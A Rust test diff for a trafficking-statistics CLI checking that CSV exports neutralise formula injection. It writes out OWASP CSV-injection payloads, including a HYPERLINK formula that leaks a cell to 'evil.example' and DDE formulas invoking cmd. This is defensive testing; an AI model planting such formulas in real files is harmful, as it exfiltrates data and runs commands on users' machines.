@@ -200,3 +200,73 @@ fn a_full_disk_leaves_no_partial_report() {
     let sources = palermo(&d.0, &["cases", "sources"]);
     assert!(!stdout(&sources).contains("h.csv"), "{}", stdout(&sources));
 }
+
+/// Every field of a CSV text.
+fn csv_fields(text: &str) -> Vec<String> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect()
+}
+
+/// OWASP's example payloads (CSV Injection page).
+const FORMULAS: [&str; 3] = [
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+];
+
+/// Item 8: formulas planted in imported files come out of every CSV the CLI
+/// writes (the report of rejected rows, `cases export`, `stats indicators
+/// --format csv`) behind a single quote, never as a formula.
+#[test]
+fn formulas_in_imported_values_are_neutralised_in_every_csv_written() {
+    let d = Dir::new("csv-inj");
+    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
+    // CTDC: a formula as data source (stored), another as gender (rejected).
+    let mut ctdc = String::from("yearOfRegistration,gender,ageBroad,citizenship,CountryOfExploitation,Datasource\n");
+    for _ in 0..3 {
+        ctdc.push_str(&format!("2019,Woman,9--17,MDA,ROU,{}\n", q(FORMULAS[0])));
+    }
+    ctdc.push_str(&format!("2019,{},9--17,MDA,ROU,NGO\n", q(FORMULAS[1])));
+    d.file("c.csv", &ctdc);
+    let out = cases_import(&d.0, "c.csv", "ngo", "ctdc", &[]);
+    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
+    let report = std::fs::read_to_string(d.0.join("c.csv.rejected.csv")).unwrap();
+    let export = palermo(&d.0, &["cases", "export"]);
+    assert!(export.status.success(), "{}", stderr(&export));
+    // GLOTIP: a formula as region.
+    d.file(
+        "s.csv",
+        &format!(
+            "{GLOTIP_HEADER}MDA,Republic of Moldova,{},Eastern Europe,Detected trafficking victims,Total,Total,Total,Total,2019,Counts,3,GLOTIP\n",
+            q(FORMULAS[2])
+        ),
+    );
+    let out = palermo(&d.0, &["stats", "import", "s.csv", "--dataset", "inj"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let ind = palermo(
+        &d.0,
+        &["stats", "indicators", "--dataset", "inj", "--by", "region", "--format", "csv"],
+    );
+    assert!(ind.status.success(), "{}", stderr(&ind));
+    for (what, text, planted) in [
+        ("report", report, FORMULAS[1]),
+        ("cases export", stdout(&export), FORMULAS[0]),
+        ("stats indicators", stdout(&ind), FORMULAS[2]),
+    ] {
+        let fields = csv_fields(&text);
+        assert!(
+            fields.contains(&format!("'{planted}")),
+            "{what}: the value is kept, behind a quote: {text}"
+        );
+        for f in fields {
+            assert!(
+                !f.starts_with(['=', '+', '@', '\t', '\r']),
+                "{what}: a formula reached the CSV: {f:?}"
+            );
+        }
+    }
+}
